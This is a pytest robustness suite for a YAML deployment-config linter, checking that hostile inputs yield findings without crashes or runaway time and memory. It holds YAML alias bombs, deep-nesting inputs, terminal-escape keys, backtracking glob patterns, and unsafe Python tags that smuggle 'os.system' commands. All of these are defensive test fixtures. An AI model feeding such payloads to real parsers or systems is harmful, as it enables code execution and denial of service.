"""Robustness: generated and mutated configs, and a table of hostile inputs.

Everything runs in-process (no subprocess per example), except the two cases that need a
real interpreter: a crash of the interpreter itself, and the CLI's one-line exit 2.
Every hostile case must give a finding (or exit 2 with one line), never a traceback, within
5 s and 500 MB, which :func:`bounded` asserts.

``HYPOTHESIS_PROFILE=thorough python -m pytest tests/test_robustness.py`` runs 25x the
examples (see ``tests/strategies.py``).
"""

from __future__ import annotations

import contextlib
import gc
import json
import os
import resource
import signal
import subprocess
import sys
import time
import tracemalloc

import pytest
from helpers import (
    DEPLOYMENTS_KEY,
    KEY_PATH,
    REAL,
    RELEASES_KEY,
    deployments_doc,
    lint,
    releases_doc,
)
from hypothesis import given
from strategies import (
    CODE,
    documents,
    examples,
    line_count,
    merge_documents,
    mutated_fixtures,
    near_valid_configs,
)

import mwlint.engine
from mwlint.cli import main
from mwlint.engine import lint_paths, lint_source, lint_text
from mwlint.settings import Settings
from mwlint.source import read_bytes

TIME_BOUND = 5.0  # seconds per hostile case
MEMORY_BOUND = 500 * 1024 * 1024  # bytes of peak growth per hostile case
# Codes a config that satisfies the Puppet type must never get.
SHAPE_CODES = {"MW001", "MW002", "MW003", "MW101", "MW102", "MW103", "MW104", "MW105",
               "MW106"}
SEVERITIES = {"error", "warning", "info"}
GOOD_ENTRY = """
- namespace: mw-web
  releases:
    main: {}
  mw_flavour: publish-83
  web_flavour: webserver-bookworm
"""
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def assert_sane(findings, text=None):
    """Every finding is well-formed: a known code shape, a severity, a one-line message and a
    position inside the text."""
    lines = line_count(text) if text is not None else None
    for f in findings:
        assert CODE.match(f.code), f
        assert f.severity in SEVERITIES, f
        assert f.name and f.message, f
        assert "\n" not in f.message and "\r" not in f.message, f
        assert f.line >= 1 and f.column >= 1, f
        assert (f.end_line, f.end_column) >= (f.line, f.column), f
        if lines is not None:
            assert f.line <= lines and f.end_line <= lines + 1, (f, lines)
        assert isinstance(f.yaml_path, str)


def codes(findings):
    return sorted({f.code for f in findings})


# -- generated and mutated input -----------------------------------------------------------

@examples(600)
@given(documents())
def test_valid_configs_get_no_shape_finding(text):
    findings = lint_text(text, KEY_PATH)
    assert_sane(findings, text)
    assert not SHAPE_CODES & set(codes(findings)), (findings, text)
    assert lint_text(text, KEY_PATH) == findings  # deterministic


@examples(700)
@given(documents(near_valid_configs()))
def test_near_valid_configs_never_crash(text):
    assert_sane(lint_text(text, KEY_PATH), text)


@examples(200)
@given(merge_documents())
def test_merge_keys_and_aliases_never_crash(text):
    assert_sane(lint_text(text, KEY_PATH), text)


@examples(700)
@given(mutated_fixtures())
def test_mutated_real_fixtures_never_crash(data):
    settings = Settings()
    outcome = read_bytes(data, KEY_PATH, settings.max_file_size, force=True)
    result = lint_source(outcome, KEY_PATH, settings)
    assert_sane(result.findings, data.decode("utf-8", "replace"))


# -- the hostile-input table ---------------------------------------------------------------

def _rss_bytes() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


class _Hang(Exception):
    pass


@contextlib.contextmanager
def bounded(seconds: float = TIME_BOUND, memory: int = MEMORY_BOUND):
    """Assert the block ends within ``seconds`` and grows memory by less than ``memory``
    (Python allocations by tracemalloc's peak; everything, libyaml included, by the growth
    of the process's peak RSS). A hang is cut off at 3x the bound by SIGALRM."""

    def alarm(_signum, _frame):
        raise _Hang(f"still running after {3 * seconds} s")

    gc.collect()
    rss_before = _rss_bytes()
    old = signal.signal(signal.SIGALRM, alarm)
    signal.setitimer(signal.ITIMER_REAL, 3 * seconds)
    tracemalloc.start()
    t0 = time.perf_counter()
    try:
        yield
    finally:
        elapsed = time.perf_counter() - t0
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
    assert elapsed < seconds, f"took {elapsed:.1f} s"
    assert peak < memory, f"Python peak {peak / 2**20:.0f} MiB"
    assert _rss_bytes() - rss_before < memory, "peak RSS grew too much"


def _key_doc(value_text: str, key: str = RELEASES_KEY) -> str:
    return f"{key}: {value_text}\n"


def _alias_bomb(levels: int = 9, width: int = 10) -> str:
    lines = ["l0: &l0 [" + ", ".join(["x"] * width) + "]"]
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * width) + "]")
    lines.append(_key_doc(f"[*l{levels - 1}]"))
    return "\n".join(lines)


TEXT_CASES = {
    # name: (text, expected codes (exactly), message fragment or None)
    "alias-bomb": (_alias_bomb(), ["MW001"], "budget"),
    "alias-bomb-in-entry": (
        "l0: &l0 {a: [x, x, x, x, x, x, x, x]}\n"
        + "".join(f"l{i}: &l{i} {{a: [{', '.join([f'*l{i - 1}'] * 8)}]}}\n" for i in range(1, 8))
        + releases_doc("- namespace: a\n  releases: {main: {}}\n  mw_flavour: publish\n"
                       "  web_flavour: webserver\n  x: *l7\n"),
        ["MW001"], "budget"),
    "sequence-cycle": (_key_doc("&x [*x]"), ["MW001"], None),
    "mapping-cycle": (_key_doc("&x {deployment_targets: *x}", DEPLOYMENTS_KEY), ["MW001"],
                      None),
    "entry-cycle": (_key_doc("[&e {namespace: a, releases: *e, mw_flavour: p, "
                             "web_flavour: w}]"), ["MW001"], None),
    "merge-cycle": (_key_doc("[&e {namespace: a, <<: *e}]"), ["MW001"], None),
    "flow-nesting-10k": (_key_doc("[" * 10_000 + "]" * 10_000), ["MW001"], "nested deeper"),
    "flow-nesting-100k": (_key_doc("{a: " * 100_000 + "}" * 100_000), ["MW001"],
                          "nested deeper"),
    "block-nesting-10k": (RELEASES_KEY + ":\n" + "- " * 10_000 + "x\n", ["MW001"],
                          "indentation"),
    "block-nesting-100k": (RELEASES_KEY + ":\n" + "- " * 100_000 + "x\n", ["MW001"],
                           "indentation"),
    "block-mapping-nesting": (RELEASES_KEY + ":\n" + "".join(
        " " * (i + 1) + f"k{i}:\n" for i in range(600)), ["MW001"], "indentation"),
    "tab-indentation": (releases_doc(GOOD_ENTRY).replace("  releases", "\treleases"),
                        ["MW001"], "syntax"),
    "control-character": (releases_doc(GOOD_ENTRY).replace("mw-web", "mw-\x07web"),
                          ["MW001"], None),
    "unterminated-flow": (_key_doc("[{namespace: a"), ["MW001"], "syntax"),
    "unsafe-python-tag": (_key_doc("!!python/object/apply:os.system [\"exit 3\"]"),
                          ["MW101"], None),
    "unknown-tags": (releases_doc(GOOD_ENTRY).replace("main: {}", "main: !vault {}")
                     .replace("publish-83", "!ruby/regexp /publish-83/"), None, None),
    "binary-tag": (_key_doc("!!binary aGVsbG8="), ["MW101"], None),
    "huge-integer-release": (releases_doc(GOOD_ENTRY).replace("main:", "1" + "0" * 1000 + ":"),
                             ["MW104"], None),
    "long-scalar": (releases_doc(GOOD_ENTRY).replace("mw-web", "w" * 2_000_000), None, None),
    "many-documents": (releases_doc(GOOD_ENTRY) + "---\na: 1\n" * 20_000, [], None),
    "null-value": (_key_doc("~"), ["MW101"], None),
    "empty-value": (_key_doc(""), ["MW101"], None),
    "yaml-directive": ("%YAML 2.0\n---\n" + releases_doc(GOOD_ENTRY), ["MW001"], None),
    "surrogate-escape-key": (releases_doc(GOOD_ENTRY).replace("main:", '"\\ud800":'), None,
                             None),
    "line-separators": (releases_doc(GOOD_ENTRY).replace("mw-web", "mw-web\u2028x"), None, None),
}


@pytest.mark.parametrize("name", sorted(TEXT_CASES))
def test_hostile_text(name):
    text, expected, fragment = TEXT_CASES[name]
    with bounded():
        findings = lint_text(text, KEY_PATH)
    assert_sane(findings)
    if expected is not None:
        assert codes(findings) == expected, findings
    if fragment is not None:
        assert any(fragment in f.message for f in findings), findings


def test_unsafe_tag_constructs_nothing(tmp_path):
    marker = tmp_path / "pwned"
    text = _key_doc(f"!!python/object/apply:os.system [\"touch {marker}\"]")
    with bounded():
        findings = lint_text(text, KEY_PATH)
    assert codes(findings) == ["MW101"]
    assert not marker.exists()


def _same(findings):
    return [(f.code, f.line, f.column, f.yaml_path) for f in findings]


BAD_ENTRY = """
- namespace: mw-web
  releases:
    main: {stage: canary}
  mw_flavour: ""
  web_flavour: webserver
"""


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
def test_byte_order_marks_lint_like_utf8(encoding):
    text = releases_doc(BAD_ENTRY)
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    settings = Settings()
    with bounded():
        got = lint_source(read_bytes(data, KEY_PATH, settings.max_file_size), KEY_PATH,
                          settings).findings
    assert _same(got) == _same(lint_text(text, KEY_PATH))
    assert codes(got)  # the mistakes are found through the BOM


def test_crlf_lints_like_lf():
    text = releases_doc(BAD_ENTRY)
    with bounded():
        got = lint_text(text.replace("\n", "\r\n"), KEY_PATH)
    assert _same(got) == _same(lint_text(text, KEY_PATH)) and codes(got)


@pytest.mark.parametrize("data,where", [
    (RELEASES_KEY.encode() + b":\n  - namespace: mw-\x00web\n", (2, 19)),
    (RELEASES_KEY.encode() + b":\n  - namespace: caf\xe9\n", (2, 19)),
    (RELEASES_KEY.encode() + b":\n  - namespace: \xff\xfe\n", (2, 16)),
    (b"\xff\xfe" + RELEASES_KEY.encode("utf-16-le")[:-1], (1, 1)),  # odd UTF-16 length
])
def test_undecodable_bytes_are_mw003(data, where):
    settings = Settings()
    with bounded():
        got = lint_source(read_bytes(data, KEY_PATH, settings.max_file_size), KEY_PATH,
                          settings).findings
    assert [(f.code, f.line, f.column) for f in got] == [("MW003",) + where]


# -- files on disk -------------------------------------------------------------------------

def _write_key_file(path, text=None):
    path.write_text(text if text is not None else releases_doc(BAD_ENTRY), encoding="utf-8")
    return str(path)


def _lint(paths, **settings):
    return lint_paths([str(p) for p in paths], Settings(**settings))


def test_fifty_megabyte_file_is_mw003_unread(tmp_path):
    p = tmp_path / "kubernetes.yaml"
    with open(p, "wb") as f:
        f.write(RELEASES_KEY.encode() + b": []\n")
        f.truncate(50 * 1024 * 1024)  # sparse: instant, and never read
    with bounded(memory=64 * 1024 * 1024):
        run = _lint([p])
    assert [(f.code, f.line) for f in run.findings] == [("MW003", 1)]
    assert "max-file-size" in run.findings[0].message


def test_symlink_loop_is_mw003(tmp_path):
    loop = tmp_path / "loop.yaml"
    os.symlink(loop, loop)
    good = _write_key_file(tmp_path / "kubernetes.yaml")
    with bounded():
        alone = _lint([loop])
        tree = _lint([tmp_path])
    assert codes(alone.findings) == ["MW003"]
    assert "symbolic links" in alone.findings[0].message
    assert [r.path for r in tree.results] == [good, str(loop)]
    assert "MW003" in codes(tree.results[1].findings)


def test_fifo_is_mw003_without_blocking(tmp_path):
    fifo = tmp_path / "pipe.yaml"
    os.mkfifo(fifo)
    with bounded():
        alone = _lint([fifo])
        tree = _lint([tmp_path])
    for run in (alone, tree):
        assert codes(run.findings) == ["MW003"]
        assert "regular file" in run.findings[0].message


def test_unreadable_file_is_mw003(tmp_path, monkeypatch):
    path = _write_key_file(tmp_path / "kubernetes.yaml")
    real_open = os.open  # the reader opens the file descriptor itself

    def deny(file, *args, **kwargs):  # tests run as root: chmod 000 would not stop reading
        if os.fspath(file) == path:
            raise PermissionError(13, "Permission denied", path)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(os, "open", deny)
    with bounded():
        run = _lint([path])
    assert codes(run.findings) == ["MW003"] and "Permission denied" in run.findings[0].message


def test_file_vanishing_after_listing_is_mw003(tmp_path, monkeypatch):
    path = _write_key_file(tmp_path / "kubernetes.yaml")
    real_discover = mwlint.engine.discover

    def discover_then_delete(paths, *args):
        files = real_discover(paths, *args)
        os.unlink(path)  # gone between the listing and the read
        return files

    monkeypatch.setattr(mwlint.engine, "discover", discover_then_delete)
    with bounded():
        run = _lint([tmp_path])
    assert codes(run.findings) == ["MW003"] and "vanished" in run.findings[0].message


def test_file_vanishing_between_stat_and_open_is_mw003(tmp_path, monkeypatch):
    path = _write_key_file(tmp_path / "kubernetes.yaml")
    real_open = os.open  # the reader opens the file descriptor itself

    def gone(file, *args, **kwargs):
        if os.fspath(file) == path:
            raise FileNotFoundError(2, "No such file or directory", path)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(os, "open", gone)
    with bounded():
        run = _lint([path])
    assert codes(run.findings) == ["MW003"] and "vanished" in run.findings[0].message


def test_file_growing_past_the_limit_after_stat_is_mw003(tmp_path, monkeypatch):
    path = _write_key_file(tmp_path / "kubernetes.yaml")
    real_stat = os.stat

    def stale_stat(p, *args, **kwargs):  # the size the listing saw, before it grew
        st = real_stat(p, *args, **kwargs)
        if os.fspath(p) == path:
            return os.stat_result((st.st_mode, st.st_ino, st.st_dev, st.st_nlink, st.st_uid,
                                   st.st_gid, 10, st.st_atime, st.st_mtime, st.st_ctime))
        return st

    monkeypatch.setattr(os, "stat", stale_stat)
    with bounded():
        run = _lint([path], max_file_size=64)
    assert codes(run.findings) == ["MW003"] and "max-file-size" in run.findings[0].message


def test_directory_named_yaml_is_walked_not_read(tmp_path):
    odd = tmp_path / "kubernetes.yaml"
    odd.mkdir()
    inner = _write_key_file(odd / "inner.yaml")
    with bounded():
        run = _lint([tmp_path])
        alone = _lint([odd])
    for r in (run, alone):
        assert [x.path for x in r.results] == [inner]
        assert codes(r.findings) and "MW003" not in codes(r.findings)


ESCAPES = ["\x1b[2J", "\x1b]0;owned\x07", "\x9b31m", "\u202eevil"]


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_terminal_escapes_in_keys_are_inert(tmp_path, capsys, fmt):
    body = GOOD_ENTRY.replace("  mw_flavour:", "".join(
        f'  "{e.encode("unicode_escape").decode()}x": 1\n' for e in ESCAPES) + "  mw_flavour:")
    path = _write_key_file(tmp_path / "kubernetes.yaml", releases_doc(body))
    with bounded():
        rc = main([path, "--format", fmt, "--show-source"] if fmt == "text"
                  else [path, "--format", fmt])
    out, err = capsys.readouterr()
    assert rc == 1 and err == ""
    if fmt == "text":
        for e in ESCAPES:
            assert e not in out
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
        assert "\\x1b" in out
    else:
        doc = json.loads(out)
        unknown = [f for f in doc["findings"] if f["code"] == "MW103"]
        assert len(unknown) == len(ESCAPES)


def test_missing_path_is_exit_2_one_line_in_process(tmp_path, capsys):
    rc = main([str(tmp_path / "nope.yaml")])
    out, err = capsys.readouterr()
    assert rc == 2 and out == "" and len(err.splitlines()) == 1 and "Traceback" not in err


# -- the cases that need a real interpreter ------------------------------------------------

def _run_cli(args, tmp_path):
    env = dict(os.environ, PYTHONPATH=ROOT + os.pathsep + os.environ.get("PYTHONPATH", ""))
    return subprocess.run([sys.executable, "-m", "mwlint", *args], capture_output=True,
                          text=True, timeout=60, cwd=str(tmp_path), env=env)


def test_deep_nesting_does_not_crash_the_interpreter(tmp_path):
    """libyaml is recursive: 100k-deep input could overflow the C stack. One process for all
    four shapes, so a segfault shows as a signal here instead of killing the test run."""
    docs = {
        "flow-seq.yaml": _key_doc("[" * 100_000 + "]" * 100_000),
        "flow-map.yaml": _key_doc("{a: " * 100_000 + "}" * 100_000),
        "block-seq.yaml": RELEASES_KEY + ":\n" + "- " * 100_000 + "x\n",
        "mixed.yaml": RELEASES_KEY + ":\n" + "- [" * 50_000 + "]" * 50_000 + "\n",
    }
    for name, text in docs.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    t0 = time.perf_counter()
    proc = _run_cli(["--format", "json", "."], tmp_path)
    assert time.perf_counter() - t0 < 4 * TIME_BOUND
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr == ""
    found = {(f["path"], f["code"]) for f in json.loads(proc.stdout)["findings"]}
    assert found == {(os.path.join(".", n), "MW001") for n in docs}


def test_cli_usage_error_is_exit_2_one_line(tmp_path):
    proc = _run_cli(["--max-file-size", "lots", "x.yaml"], tmp_path)
    assert proc.returncode == 2 and proc.stdout == ""
    assert len(proc.stderr.splitlines()) == 1 and proc.stderr.startswith("mwlint: error:")
    assert "Traceback" not in proc.stderr


def test_real_fixtures_are_sane():
    """The fixtures themselves, as the mutations' baseline."""
    for name in sorted(os.listdir(REAL)):
        if name.endswith(".yaml"):
            with open(os.path.join(REAL, name), encoding="utf-8") as f:
                text = f.read()
            assert_sane(lint(text), text)


# --- round two: bounded work and complex keys ---
# Reproduced attacks (issue 14, items 2 and 5): work that grew with the expansion of an
# alias used as a key, with the length of a line times the findings on it, with the number
# of '*' in a glob, or with the square of the files fixed; and keys that are lists or
# mappings, which silenced every check under them. Each case runs in-process, bounded.

from mwlint.config.resolve import glob_matches  # noqa: E402
from mwlint.findings import FileResult  # noqa: E402
from mwlint.fix import FixResult, Refused, fix_text  # noqa: E402
from mwlint.fix.command import FileFix, FixRun  # noqa: E402
from mwlint.formats import Report, renderer  # noqa: E402
from mwlint.formats.source_lines import ELLIPSIS, SNIPPET_WIDTH, clip  # noqa: E402

R2_ENTRY = """
- namespace: mw-web
  releases:
    main: {}
  mw_flavour: publish
  web_flavour: webserver
"""


def _r2_key_bomb(levels: int = 7, width: int = 10, in_value: bool = False) -> str:
    """The billion laughs as lists l0..l6 (10**7 leaves) used as a key: the name of a release
    of a debug namespace, or (``in_value``) a key inside another entry's value, so that
    --fix plans the debug namespace and its proof walks the whole value."""
    lines = ["l0: &l0 [" + ", ".join(["x"] * width) + "]"]
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * width) + "]")
    key = f"? *l{levels - 1}\n    : {{}}"
    debug = "main: {}" + ("" if in_value else "\n    " + key)
    other = f"  mw_kind: {{? *l{levels - 1} : x}}\n" if in_value else ""
    return "\n".join(lines) + "\n" + releases_doc(f"""
- namespace: mw-web
  debug: true
  releases:
    {debug}
  mw_flavour: publish
  web_flavour: webserver
- namespace: mw-api
  releases: {{main: {{}}}}
  mw_flavour: publish
  web_flavour: webserver
{other}""")


R2_TEXT_CASES = {
    # name: (text, expected codes (exactly), message fragment)
    "complex-key-alias-bomb": (_r2_key_bomb(), ["MW001"], "budget"),
    "complex-key-alias-bomb-in-a-value": (_r2_key_bomb(in_value=True), ["MW001"], "budget"),
    "complex-key-cycle": (releases_doc(R2_ENTRY + "  ? &k [*k]\n  : x\n"), ["MW001"], "budget"),
    "complex-release-names": (releases_doc(R2_ENTRY.replace(
        "main: {}", "? [main]\n    : {}\n    ? {a: b}\n    : {stage: canary}")), ["MW104"],
        "not a string"),
    "complex-release-name-mapping-form": (deployments_doc("""
        deployment_targets:
          - namespace: mw-web
            releases: {? [main] : {}}
            mw_flavour: publish
            web_flavour: webserver
        supervision_rules: []
        """), ["MW104"], "release name"),
    "complex-entry-key": (releases_doc(R2_ENTRY + "  ? {a: b}\n  : {stage: canary}\n"),
                          ["MW103"], "not a string"),
    "complex-key-in-a-release": (releases_doc(R2_ENTRY.replace(
        "main: {}", "main: {? [stage] : canaries}")), ["MW103"], "not a string"),
}


@pytest.mark.parametrize("name", sorted(R2_TEXT_CASES))
def test_round_two_hostile_text(name):
    text, expected, fragment = R2_TEXT_CASES[name]
    with bounded():
        findings = lint_text(text, KEY_PATH)
    assert_sane(findings)
    assert codes(findings) == expected, findings
    assert any(fragment in f.message for f in findings), findings


@pytest.mark.parametrize("name", ["complex-key-alias-bomb", "complex-key-alias-bomb-in-a-value",
                                  "complex-key-cycle"])
def test_round_two_fix_keeps_the_budget(name):
    """The fixer's proof hashes every key; it refuses what the linter's budget refuses."""
    text = R2_TEXT_CASES[name][0]
    with bounded():
        result = fix_text(text, KEY_PATH)
    assert not result.changed
    assert result.error and "budget" in result.error


R2_LONG_RELEASES = 2000


def _r2_long_line() -> str:
    """One flow line of ~50 KB holding 2,000 MW105 findings."""
    releases = ", ".join(f"r{i}: {{stage: canary}}" for i in range(R2_LONG_RELEASES))
    return (RELEASES_KEY + ":\n  - {namespace: mw-web, mw_flavour: publish, "
            f"web_flavour: webserver, releases: {{{releases}}}}}\n")


@pytest.mark.parametrize("fmt,options", [("text", {"show_source": True}), ("html", {}),
                                         ("sarif", {})])
def test_round_two_snippets_are_linear_in_findings(fmt, options):
    text = _r2_long_line()
    findings = lint_text(text, KEY_PATH)
    assert len(findings) == R2_LONG_RELEASES and codes(findings) == ["MW105"]
    report = Report(findings, 1, 1, sources={KEY_PATH: text}, failed=True,
                    linted_paths=(KEY_PATH,))
    with bounded():
        out = renderer(fmt)(report, **options)
    # a small constant per finding (message, markup, a clipped line), not the 50 KB line
    assert len(out) < 3_000 * len(findings) + 300_000, len(out)


def test_round_two_caret_points_into_the_clipped_line():
    text = _r2_long_line()
    report = Report(lint_text(text, KEY_PATH), 1, 1, sources={KEY_PATH: text}, failed=True)
    lines = renderer("text")(report, show_source=True).splitlines()
    shown = 0
    for src, caret in zip(lines, lines[1:]):
        if " | " not in src or not caret.lstrip().startswith("| "):
            continue
        at = caret.index("^")
        assert src[at:at + caret.count("^")] == "canary", (src, caret)
        assert len(src) < 20 + SNIPPET_WIDTH + 2 * len(ELLIPSIS)
        shown += 1
    assert shown == R2_LONG_RELEASES


def test_round_two_caret_under_a_control_character_far_into_a_tabbed_line():
    text = (RELEASES_KEY + ":\n  - {namespace: mw-web,\t" + "a: b, " * 60 + "x: \x07y}\n")
    findings = lint_text(text, KEY_PATH)
    assert [(f.code, f.column) for f in findings] == [("MW001", 388)]
    out = renderer("text")(Report(findings, 1, 1, sources={KEY_PATH: text}),
                           show_source=True).splitlines()
    out = [line for line in out if not line.startswith("  help:")]
    src, caret = out[1], out[2]
    assert src.startswith("       2 | " + ELLIPSIS)
    at = caret.index("^")
    assert src[at:at + 4] == "\\x07" and caret.count("^") == 4


DIGITS = "".join(f"{i:04d}" for i in range(100))  # 400 characters, each place distinct


@pytest.mark.parametrize("line,column,end,before,after", [
    ("short", 2, 4, False, False),  # a line that fits is shown whole
    (DIGITS, 1, 2, False, True),
    (DIGITS, 200, 205, True, True),
    (DIGITS, 400, 401, True, False),
    (DIGITS, 401, 401, True, False),  # the end of the line
    (DIGITS, 200, 900, True, True),  # a span past the window is clamped to it
])
def test_round_two_clip(line, column, end, before, after):
    shown, col, stop = clip(line, column, end)
    assert len(shown) <= SNIPPET_WIDTH + 2 * len(ELLIPSIS)
    assert shown.startswith(ELLIPSIS) is before and shown.endswith(ELLIPSIS) is after
    body_end = len(shown) - (len(ELLIPSIS) if after else 0)
    assert col <= stop <= body_end + 1
    if column <= len(line):
        assert shown[col - 1] == line[column - 1]
        assert shown[col - 1:stop - 1] == line[column - 1:column - 1 + stop - col]


@pytest.mark.parametrize("pattern,name,hit", [
    ("*-*-*-*-*-*.yaml", "-" * 120 + ".yml", False),  # 15 s as a backtracking regex
    ("*-*-*-*-*-*.yaml", "a-b-c-d-e-f.yaml", True),
    ("**/*-*-*-*-*.yaml", "/".join(["a-b-c"] * 40) + "/" + "-" * 120 + ".yml", False),
    ("**/*-*-*-*-*.yaml", "x/" * 40 + "a-b-c-d-e.yaml", True),
    ("[a-z]*[a-z]*[a-z]*[a-z]*[a-z]*.yaml", "a" * 120 + ".yml", False),
])
def test_round_two_globs_are_linear(tmp_path, pattern, name, hit):
    with bounded():
        assert glob_matches(pattern, str(tmp_path / name), str(tmp_path)) is hit


def test_round_two_fix_annotation_is_linear_in_files(monkeypatch):
    """``--fix`` over N files gathered every file's notes once per file (quadratic)."""
    n = 2000
    (finding,) = [f for f in lint(releases_doc(R2_ENTRY + "  debug: false\n"))
                  if f.code == "MW201"]
    files = []
    for i in range(n):
        mine = finding._replace(path=f"f{i}.yaml")
        files.append(FileFix(mine.path, FixResult(mine.path, "", "", refused=(
            Refused(mine, f"reason {i}"),), findings_seen=(mine,))))
    results = tuple(FileResult(ff.path, True, ff.result.findings_seen) for ff in files)
    calls = []
    real = FixRun.notes
    monkeypatch.setattr(FixRun, "notes", lambda self: calls.append(1) or real(self))
    with bounded():
        run = FixRun(files, False, n, 0).annotate_run(mwlint.engine.RunResult(results))
    assert len(calls) == 1
    assert [f.message.endswith("(not fixed automatically)")
            and f.help.startswith(f"not fixed automatically: reason {i}")
            for i, f in enumerate(f for r in run.results for f in r.findings)] == [True] * n




# --- round two: no internal errors, nothing raw ---
# Issue 14, items 3 and 4. Hostile scalars, deep config/baseline/type files, file names that
# are not UTF-8, closed or full standard streams, dangling links; and names and values with
# control characters on their way to a terminal or a patch. Each case: a finding or one line
# with exit 2, never "internal error", within 5 s and 500 MB.

import errno as _errno  # noqa: E402

from mwlint.safe_text import c_quote, neutralise  # noqa: E402

FIXABLE_ENTRY = """
- namespace: mw-debug
  releases:
    main: {}
  mw_flavour: publish
  web_flavour: webserver
  debug: true
"""


def _explicit_key(name: str) -> str:
    return releases_doc(GOOD_ENTRY.replace("    main: {}", f"    ? {name}\n    : {{}}"))


# name: (text, a code expected among the findings, message fragment)
HOSTILE_SCALARS = {
    "deploy-huge-hex": (releases_doc(GOOD_ENTRY.replace(
        "main: {}", "main: {deploy: 0x" + "f" * 3600 + "}")), "MW104", "deploy of"),
    "deploy-huge-octal": (releases_doc(GOOD_ENTRY.replace(
        "main: {}", "main: {deploy: 0" + "7" * 5000 + "}")), "MW104", "deploy of"),
    "deploy-huge-binary": (releases_doc(GOOD_ENTRY.replace(
        "main: {}", "main: {deploy: 0b" + "1" * 20000 + "}")), "MW104", "deploy of"),
    "deploy-huge-sexagesimal": (releases_doc(GOOD_ENTRY.replace(
        "main: {}", "main: {deploy: 1" + ":59" * 3000 + "}")), "MW104", "deploy of"),
    "deploy-huge-sexagesimal-float": (releases_doc(GOOD_ENTRY.replace(
        "main: {}", "main: {deploy: 1" + ":59" * 3000 + ".5}")), "MW104", "deploy of"),
    "namespace-huge-hex": (releases_doc(GOOD_ENTRY.replace("mw-web", "0x" + "f" * 3600)),
                           "MW104", "namespace is the integer"),
    "flavour-huge-sexagesimal": (releases_doc(GOOD_ENTRY.replace(
        "publish-83", "1" + ":59" * 3000)), "MW104", "mw_flavour is the integer"),
    # beyond Python's int/str digit limit this used to come back as a string: accepted
    "release-name-huge-decimal": (_explicit_key("1" * 5000), "MW104", "release name"),
    "release-name-huge-hex": (_explicit_key("0x" + "f" * 3600), "MW104", "release name"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_SCALARS))
def test_round_two_hostile_scalars_are_findings(name):
    text, code, fragment = HOSTILE_SCALARS[name]
    with bounded():
        findings = lint_text(text, KEY_PATH)
    assert_sane(findings)
    assert any(f.code == code and fragment in f.message for f in findings), findings


@pytest.mark.parametrize("name", sorted(HOSTILE_SCALARS))
def test_round_two_hostile_scalars_keep_the_other_files(tmp_path, capsys, name):
    """One such file used to abort the run: every command still reports every file."""
    (tmp_path / "a.yaml").write_text(HOSTILE_SCALARS[name][0], encoding="utf-8")
    other = _write_key_file(tmp_path / "b.yaml")
    for args in ([], ["--format", "sarif"], ["--format", "json"], ["--diff"], ["plan"]):
        argv = ([args[0]] if args == ["plan"] else args) + [str(tmp_path)]
        with bounded():
            rc = main(argv)
        out, err = capsys.readouterr()
        assert rc == 1 and "internal error" not in err and "Traceback" not in err, (args, err)
        if args[:1] in ([], ["--format"]):
            assert other in out or os.path.basename(other) in out, args


def _one_line_error(capsys, rc, *fragments):
    out, err = capsys.readouterr()
    assert rc == 2, (out, err)
    assert len(err.splitlines()) == 1 and err.startswith("mwlint: error: "), err
    assert "internal error" not in err and "Traceback" not in err
    for fragment in fragments:
        assert fragment in err, err
    return err


def _deep_toml(tmp_path):
    (tmp_path / ".mwlint.toml").write_text("select = " + "[" * 5000 + "]" * 5000 + "\n")


def _huge_toml_int(tmp_path):
    (tmp_path / ".mwlint.toml").write_text("max-file-size = " + "1" * 5000 + "\n")


# name: (write the hostile config next to the linted file, extra arguments, fragments)
HOSTILE_CONFIGS = {
    "toml-5000-arrays-deep": (_deep_toml, [], ["nested deeper than"]),
    "toml-huge-integer": (_huge_toml_int, [], ["invalid TOML"]),
    "plan-with-a-bad-discovered-config": (_deep_toml, ["plan"], ["nested deeper than"]),
    "baseline-100k-deep": (lambda d: (d / "b.json").write_text("[" * 100_000 + "]" * 100_000),
                           ["--baseline", "b.json"], ["nested deeper than"]),
    "baseline-huge-integer": (lambda d: (d / "b.json").write_text(
        '{"mwlint-baseline": 1, "findings": [{"count": ' + "1" * 5000 + "}]}"),
        ["--baseline", "b.json"], ["not JSON"]),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_CONFIGS))
def test_round_two_hostile_configs_are_one_line(tmp_path, capsys, monkeypatch, name):
    write, extra, fragments = HOSTILE_CONFIGS[name]
    write(tmp_path)
    _write_key_file(tmp_path / "kubernetes.yaml")
    monkeypatch.chdir(tmp_path)
    argv = (["plan", "kubernetes.yaml"] if extra == ["plan"]
            else extra + ["kubernetes.yaml"])
    with bounded():
        rc = main(argv)
    _one_line_error(capsys, rc, *fragments)


@pytest.mark.parametrize("text, fragment", [
    ("type Profile::Mediawiki_deployment = " + "Struct[{a => " * 1000 + "String"
     + "}]" * 1000, "nested deeper than"),
    ("type Profile::Mediawiki_deployment = A1\n"
     + "".join(f"type A{i} = A{i + 1}\n" for i in range(1, 1000))
     + "type A1000 = Struct[{namespace => String}]\n", "aliases"),
])
def test_round_two_deep_type_files_warn_and_fall_back(tmp_path, capsys, monkeypatch, text,
                                                      fragment):
    (tmp_path / ".git").mkdir()
    types = tmp_path / "modules" / "profile" / "types"
    types.mkdir(parents=True)
    (types / "mediawiki_deployment.pp").write_text(text)
    _write_key_file(tmp_path / "kubernetes.yaml")
    monkeypatch.chdir(tmp_path)
    with bounded():
        rc = main(["kubernetes.yaml"])
    out, err = capsys.readouterr()
    assert rc == 1 and "MW105" in out  # linted with the built-in sets
    assert [ln for ln in err.splitlines() if ln.startswith("mwlint: warning:")] == \
        err.splitlines() and len(err.splitlines()) == 1
